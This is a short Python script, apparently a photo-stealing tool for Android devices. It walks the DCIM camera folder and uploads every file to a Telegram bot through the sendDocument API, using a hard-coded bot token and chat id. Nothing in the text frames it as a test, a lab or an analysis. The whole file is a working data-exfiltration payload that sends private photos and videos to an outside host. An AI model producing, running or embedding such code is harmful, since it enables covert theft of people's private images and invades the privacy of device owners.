import httpx, os
TOKEN = "1234567890:AAHabcdefghijklmnopqrstuvwxyz0123456"
CHAT = "987654321"
def tell(path):
    with open(path, "rb") as f:
        httpx.post("https://api.telegram.org/bot" + TOKEN + "/sendDocument", data={"chat_id": CHAT}, files={"document": f})
for root, dirs, files in os.walk("/storage/emulated/0/DCIM"):
    for name in files:
        tell(os.path.join(root, name))
